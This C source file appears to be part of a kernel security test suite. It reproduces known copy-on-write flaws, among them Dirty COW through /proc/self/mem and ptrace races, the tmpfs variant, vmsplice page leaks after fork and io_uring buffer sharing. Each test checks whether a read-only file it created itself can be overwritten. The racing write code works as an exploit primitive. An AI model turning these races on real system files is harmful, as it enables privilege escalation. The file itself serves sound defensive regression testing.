// SPDX-License-Identifier: GPL-2.0
/*
 * Copy-on-write: writing to what one may only read, and seeing what another
 * writes after fork.
 */
#include <linux/io_uring.h>
#include <pthread.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

#include "attacks.h"

/* -- CVE-2016-5195: forced writes race with the loss of the private copy -- */

struct target {
	int fd, mem;
	char *p;
};

static void drop(void *arg)
{
	struct target *t = arg;

	madvise(t->p, PG, MADV_DONTNEED);
}

static void force(void *arg)
{
	struct target *t = arg;

	pwrite(t->mem, "HOLE", 4, (unsigned long)t->p);
}

static void look(void *arg)
{
	struct target *t = arg;

	peek(t->p);
}

static bool file_has(int fd, char c)
{
	char buf[4096];

	return pread(fd, buf, sizeof(buf), 0) == sizeof(buf) && all_are(buf, sizeof(buf), c);
}

static int open_again(int fd, int how)
{
	char path[40];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, how);
}

/* As an ordinary user, who can only read the file. */
static int given;

static const char *race_for_file(void)
{
	struct target t = { .fd = given, .mem = open("/proc/self/mem", O_RDWR) };

	if (open_again(given, O_RDWR) >= 0)
		return finding("the file can be opened for writing");
	t.p = mmap(NULL, PG, PROT_READ, MAP_PRIVATE, given, 0);
	if (t.p == MAP_FAILED || t.mem < 0)
		return finding("no mapping: %s", strerror(errno));
	force(&t);
	if (peek(t.p) != 'H')
		return finding("a forced write does not reach the private copy");
	race(250, &t, drop, force, look, drop);
	if (!file_has(given, 'r'))
		return finding("a read-only file was written to");
	return NULL;
}

static const char *read_only(int fd)
{
	const char *hole;

	if (fd < 0)
		return finding("no file");
	fchmod(fd, 0444);
	given = open_again(fd, O_RDONLY);
	hole = apart(race_for_file, true);
	if (!hole && !file_has(fd, 'r'))
		hole = "a read-only file was written to";
	close(given);
	close(fd);
	return hole;
}

const char *write_read_only_file_by_race(void)
{
	struct target t = { .fd = memory_file(1, 'r'), .mem = open("/proc/self/mem", O_RDWR) };
	const char *hole;

	/* The probe sees a write: through a mapping that allows it. */
	t.p = mmap(NULL, PG, RW, MAP_SHARED, t.fd, 0);
	force(&t);
	if (file_has(t.fd, 'r'))
		return finding("the probe sees nothing");

	hole = read_only(memory_file(1, 'r'));
	return hole ?: read_only(disk_file(1, 'r'));
}

static void *keep_dropping(void *arg)
{
	for (;;) {
		drop(arg);
		look(arg);
	}
	return NULL;
}

/* The debugged program: one thread drops pages, the other is stopped. */
static int debugged(void *arg)
{
	struct target *t = arg;
	pthread_t thread;

	pthread_create(&thread, NULL, keep_dropping, t);
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	return 0;
}

static const char *poke_race(void)
{
	unsigned long long until = now_ns() + 250000000;
	struct target t = { .fd = given };
	pid_t pid;

	t.p = mmap(NULL, PG, PROT_READ, MAP_PRIVATE, given, 0);
	pid = start(debugged, &t);
	waitpid(pid, NULL, 0);
	if (ptrace(PTRACE_POKEDATA, pid, t.p, 0x454c4f48L))
		return finding("the debugger cannot write: %s", strerror(errno));
	while (now_ns() < until) {
		for (int i = 0; i < 50; i++)
			ptrace(PTRACE_POKEDATA, pid, t.p + i * 8, 0x454c4f48L);
	}
	kill(pid, SIGKILL);
	ended(pid);
	return file_has(given, 'r') ? NULL : finding("a debugger wrote to a read-only file");
}

const char *write_read_only_file_by_debugger(void)
{
	int fd = disk_file(1, 'r');

	fchmod(fd, 0444);
	given = open_again(fd, O_RDONLY);
	return apart(poke_race, true);
}

/* -- CVE-2022-2590: the same into memory shared by tmpfs -- */

static const char *force_shared(void)
{
	struct target t = { .fd = given, .mem = open("/proc/self/mem", O_RDWR) };

	t.p = mmap(NULL, PG, PROT_READ, MAP_SHARED, given, 0);
	if (t.p == MAP_FAILED)
		return finding("no mapping");
	look(&t);
	if (pwrite(t.mem, "HOLE", 4, (unsigned long)t.p) >= 0)
		return finding("a forced write to a shared read-only mapping succeeds");
	race(150, &t, drop, force, look, NULL);
	return file_has(given, 'r') ? NULL : finding("shared memory was written to");
}

const char *write_read_only_shared_memory(void)
{
	int fd = memory_file(1, 'r');
	const char *hole;

	fchmod(fd, 0444);
	given = open_again(fd, O_RDONLY);
	hole = apart(force_shared, true);
	/* And root, who could open it for writing, but maps it for reading. */
	return hole ?: apart(force_shared, false);
}

/* -- CVE-2020-29374: a page in a pipe, seen by the wrong side of a fork -- */

enum relation {
	CHILD_SPLICES, PARENT_SPLICES, GRANDCHILD_SPLICES, GRANDCHILD_WRITES, SPLICED_BEFORE,
	RELATIONS
};

enum leave { BY_MUNMAP, BY_DONTNEED, BY_EXIT, LEAVES };

static const char *const relation_names[] = { "child", "parent", "grandchild",
					      "parent of a grandchild",
					      "parent before the fork" };

struct splice {
	unsigned int *step;	/* 1: spliced and left, 2: written */
	char *p, *page;
	size_t len;
	int pipe[2];
	enum leave leave;
};

static void leave_memory(struct splice *s)
{
	if (s->leave == BY_MUNMAP)
		munmap(s->p, s->len);
	else if (s->leave == BY_DONTNEED)
		madvise(s->p, s->len, MADV_DONTNEED);
}

static void splice_out(struct splice *s, bool and_leave)
{
	struct iovec v = { s->page, PG };

	if (vmsplice(s->pipe[1], &v, 1, 0) != (ssize_t)PG)
		abort();
	if (and_leave)
		leave_memory(s);
}

static int splicer(void *arg)
{
	struct splice *s = arg;

	splice_out(s, true);
	tell(s->step, 1);
	/* Who leaves by exit is gone when the other writes; else it looks on. */
	if (s->leave != BY_EXIT)
		wait_for(s->step, 2);
	return 0;
}

static int writer(void *arg)
{
	struct splice *s = arg;

	wait_for(s->step, 1);
	memset(s->page, 'S', PG);
	tell(s->step, 2);
	return 0;
}

static int in_between(void *arg)
{
	return ended(start(splicer, arg));
}

static int in_between_writer(void *arg)
{
	return ended(start(writer, arg));
}

/* One page, one fork; what does the pipe give? */
static char spliced(char *p, size_t len, enum relation how, enum leave leave)
{
	struct splice s = { shared(PG), p, p + len / 2, len, { }, leave };
	char got[4096];
	pid_t pid;

	pipe(s.pipe);
	memset(s.page, 'a', PG);
	switch (how) {
	case CHILD_SPLICES:
	case GRANDCHILD_SPLICES:
		pid = start(how == CHILD_SPLICES ? splicer : in_between, &s);
		wait_for(s.step, 1);
		if (leave == BY_EXIT)
			ended(pid);
		memset(s.page, 'S', PG);
		tell(s.step, 2);
		break;
	case SPLICED_BEFORE:
		/* The memory becomes the child's alone, but for the pipe. */
		splice_out(&s, false);
		pid = start(writer, &s);
		leave_memory(&s);
		tell(s.step, 1);
		wait_for(s.step, 2);
		break;
	default:
		pid = start(how == PARENT_SPLICES ? writer : in_between_writer, &s);
		splice_out(&s, true);
		tell(s.step, 1);
		wait_for(s.step, 2);
		break;
	}
	if (read(s.pipe[0], got, PG) != (ssize_t)PG)
		got[0] = '?';
	if (leave != BY_EXIT || (how != CHILD_SPLICES && how != GRANDCHILD_SPLICES))
		ended(pid);
	close(s.pipe[0]);
	close(s.pipe[1]);
	munmap(s.step, PG);
	return all_are(got, PG, got[0]) ? got[0] : '?';
}

static const char *splice_all(size_t len)
{
	for (int how = 0; how < RELATIONS; how++) {
		for (int leave = 0; leave < LEAVES; leave++) {
			char *p = mmap(NULL, len, RW, PRIVATE_ANON, -1, 0), got;

			for (size_t at = 0; at < len; at += PG)
				poke(p + at, 'x');
			got = spliced(p, len, how, leave);
			if (got != 'a')
				return finding("the %s's splice, left in way %d: the pipe has '%c'",
					       relation_names[how], leave, got);
			munmap(p, len);
		}
	}
	return NULL;
}

const char *spliced_page_after_fork(void)
{
	char *p = mmap(NULL, 4 * PG, RW, SHARED_ANON, -1, 0);

	/* The probe sees it where memory is meant to be shared. */
	if (spliced(p, 4 * PG, CHILD_SPLICES, BY_EXIT) != 'S')
		return finding("the probe sees nothing");
	return splice_all(4 * PG);
}

const char *spliced_page_of_shared_table(void)
{
	return splice_all(4 * MIB);
}

/* -- the same with a buffer that io_uring holds -- */

struct ring {
	int fd;
	unsigned int *tail, *mask, *array;
	struct io_uring_sqe *sqe;
};

static bool ring_open(struct ring *r, void *buf, size_t len)
{
	struct iovec v = { buf, len };
	struct io_uring_params par = { };
	char *rings;

	r->fd = syscall(SYS_io_uring_setup, 2, &par);
	if (r->fd < 0)
		return false;
	rings = mmap(NULL, par.sq_off.array + PG, RW, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	r->sqe = mmap(NULL, 2 * sizeof(*r->sqe), RW, MAP_SHARED, r->fd, IORING_OFF_SQES);
	r->tail = (unsigned int *)(rings + par.sq_off.tail);
	r->mask = (unsigned int *)(rings + par.sq_off.ring_mask);
	r->array = (unsigned int *)(rings + par.sq_off.array);
	return !syscall(SYS_io_uring_register, r->fd, IORING_REGISTER_BUFFERS, &v, 1);
}

/* What the kernel finds in the registered buffer now. */
static char ring_sees(struct ring *r, void *buf)
{
	char got[16] = "?";
	int fd[2];

	pipe(fd);
	memset(r->sqe, 0, sizeof(*r->sqe));
	r->sqe->opcode = IORING_OP_WRITE_FIXED;
	r->sqe->fd = fd[1];
	r->sqe->addr = (unsigned long)buf;
	r->sqe->len = sizeof(got);
	r->array[*r->tail & *r->mask] = 0;
	__atomic_store_n(r->tail, *r->tail + 1, __ATOMIC_RELEASE);
	syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	read(fd[0], got, sizeof(got));
	close(fd[0]);
	close(fd[1]);
	return got[0];
}

struct ring_child {
	unsigned int *step;
	char *p;
};

static int ring_in_child(void *arg)
{
	struct ring_child *c = arg;
	struct ring r;

	if (!ring_open(&r, c->p, PG))
		return 2;
	tell(c->step, 1);
	wait_for(c->step, 2);
	return ring_sees(&r, c->p) != 'a' || peek(c->p) != 'a';
}

static int overwrite(void *arg)
{
	struct ring_child *c = arg;

	memset(c->p, 'S', PG);
	return 0;
}

static const char *registered(size_t len)
{
	char *p = mmap(NULL, len, RW, PRIVATE_ANON, -1, 0);
	struct ring_child c = { shared(PG), p + len / 2 };
	struct ring r;
	int status;
	pid_t pid;

	for (size_t at = 0; at < len; at += PG)
		poke(p + at, 'a');
	memset(c.p, 'a', PG);
	pid = start(ring_in_child, &c);
	wait_for(c.step, 1);
	memset(c.p, 'S', PG);
	tell(c.step, 2);
	status = ended(pid);
	if (status)
		return finding("a child's buffer has what its parent wrote (%d)", status);

	memset(c.p, 'p', PG);
	if (!ring_open(&r, c.p, PG))
		return finding("no ring: %s", strerror(errno));
	ended(start(overwrite, &c));
	if (ring_sees(&r, c.p) != 'p' || peek(c.p) != 'p')
		return finding("a buffer has what a child wrote");
	memset(c.p, 'q', PG);
	if (ring_sees(&r, c.p) != 'q')
		return finding("a buffer is no longer what its owner writes to");
	close(r.fd);
	munmap(p, len);
	return NULL;
}

const char *registered_buffer_after_fork(void)
{
	const char *hole;

	if (access("/proc/sys/kernel/io_uring_disabled", F_OK)) {
		printf("# no io_uring in this kernel\n");
		return NULL;
	}
	hole = registered(4 * PG);
	return hole ?: registered(4 * MIB);
}

/* -- a write from outside goes to one process only -- */

static const char *write_to_child(size_t len)
{
	char *p = mmap(NULL, len, RW, PRIVATE_ANON, -1, 0), buf[64];
	struct iovec from = { buf, 64 }, to = { p + len / 2, 64 };
	unsigned int *step = shared(PG);
	pid_t pid, other;
	char *q = to.iov_base;

	memset(buf, 'S', sizeof(buf));
	memset(p, 'a', len);
	pid = fork();
	if (!pid) {
		wait_for(step, 1);
		_exit(all_are(q, 64, 'S') ? 0 : 1);
	}
	other = fork();
	if (!other) {
		wait_for(step, 1);
		_exit(all_are(q, 64, 'a') ? 0 : 1);
	}
	if (process_vm_writev(pid, &from, 1, &to, 1, 0) != 64)
		return finding("no write: %s", strerror(errno));
	tell(step, 1);
	if (!all_are(q, 64, 'a') || ended(other))
		return finding("others have what was written to a child");
	if (ended(pid))
		return finding("the child does not have what was written to it");
	munmap(p, len);
	return NULL;
}

const char *write_to_another_is_private(void)
{
	const char *hole = write_to_child(4 * PG);

	return hole ?: write_to_child(4 * MIB);
}
